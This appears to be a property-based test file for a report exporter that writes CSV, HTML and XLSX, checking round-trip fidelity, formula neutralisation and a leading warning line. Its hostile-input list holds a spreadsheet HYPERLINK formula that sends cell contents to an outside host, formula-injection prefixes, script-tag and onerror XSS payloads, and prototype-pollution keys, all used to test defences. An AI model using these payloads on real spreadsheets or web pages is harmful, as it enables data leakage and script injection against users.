import fc from 'fast-check';
import { anyText, runs } from '#vocabulary/testing';
import { fileText } from '../file-text';
import type { Report } from '../report';
import { tableOf } from '../table-of';
import { readCsv, readHtml, readXlsx, toBeRead } from '../testing/read-back';
import { asCsv } from './as-csv';
import { asHtml } from './as-html';
import { asXlsx } from './as-xlsx';

/** Names that somebody chose to do harm in a spreadsheet or a page, or that programs stumble over. */
const HOSTILE = [
  '=HYPERLINK("http://example.org/?"&A1;"Chi bộ")',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  "'=1",
  '<script>alert(1)</script>',
  '</td></table><img src=x onerror=alert(1)>',
  '"><b>',
  '&lt;',
  ']]>',
  'constructor',
  '__proto__',
  'toString',
  '_x0041_',
  '_x005F_',
  '\uFFFD\uFFFE\uFDD0',
  'a\r\nb',
  ' x ',
  ';',
  '"',
  'Chi bộ "Sao vàng"; khóm 4',
];
const anyCell = fc.oneof(
  anyText,
  fc.constantFrom(...HOSTILE),
  fc.integer({ min: 0 }),
  fc.constant(null),
);

const anyTable = (key: string) =>
  fc.array(fc.tuple(anyCell, anyCell, anyCell), { minLength: 1, maxLength: 4 }).map((rows) =>
    tableOf(
      { vi: `Bảng ${key}`, en: `Table ${key}` },
      [0, 1, 2].map((at) => ({
        key: at === 0 ? 'shared' : `${key}${at}`,
        label: { vi: `cột ${key}${at}`, en: `column ${at === 0 ? '' : key}${at}` },
        width: 20,
        value: (row: (typeof rows)[number]) => row[at],
      })),
      rows,
      'en',
    ),
  );

const anyReport: fc.Arbitrary<Report> = fc.record({
  language: fc.constant('en' as const),
  title: anyText.map(fileText),
  warning: fc.constantFrom(undefined, 'WARNING: this is not what was signed'),
  moment: fc.constantFrom('2025-03-01T09:00:00.000Z', '1970-01-01T00:00:00.000Z'),
  tables: fc.tuple(anyTable('a'), anyTable('b')),
});

describe('A report as a file', () => {
  it('holds the same in every format, whatever the texts are, and no formula', async () => {
    await fc.assert(
      fc.asyncProperty(anyReport, async (report) => {
        const meant = toBeRead(report);
        expect(readXlsx(await asXlsx(report), report)).toEqual(meant);
        expect(readHtml(asHtml(report))).toEqual(meant);
        expect(readCsv(asCsv(report), report)).toEqual({
          ...meant,
          tables: meant.tables.map(({ title, rows }) => ({
            title,
            rows: rows.map((row) => row.map(guarded)),
          })),
        });
      }),
      { numRuns: runs(60) },
    );
  });

  it('is the same to the byte when it is made again', async () => {
    const [report] = fc.sample(anyReport, { numRuns: 1, seed: 7 });
    if (report === undefined) throw new Error('There is one');
    expect(await asXlsx(report)).toEqual(await asXlsx(report));
    expect(asCsv(report)).toEqual(asCsv(report));
    expect(asHtml(report)).toEqual(asHtml(report));
  });

  it('says first that it cannot be relied on', async () => {
    const table = tableOf({ vi: 'Bảng', en: 'Table' }, [], [], 'vi');
    const warning = 'CẢNH BÁO';
    const report: Report = {
      language: 'vi',
      title: 'Báo cáo',
      warning,
      moment: '2025-03-01T09:00:00.000Z',
      tables: [table],
    };
    expect(asCsv(report).toString('utf8').split('\r\n')[0]).toBe(`\uFEFF${warning}`);
    expect(readXlsx(await asXlsx(report), report).warning).toBe(warning);
    const [, body = ''] = asHtml(report).toString('utf8').split('<body>\n');
    expect(body.split('\n')[0]).toBe(`<p class="warning" role="alert">${warning}</p>`);
  });
});

/** A text that a spreadsheet would take for a formula, behind an apostrophe. */
function guarded(text: string): string {
  return /^[=+\-@＝＋－＠]/.test(text) ? `'${text}` : text;
}
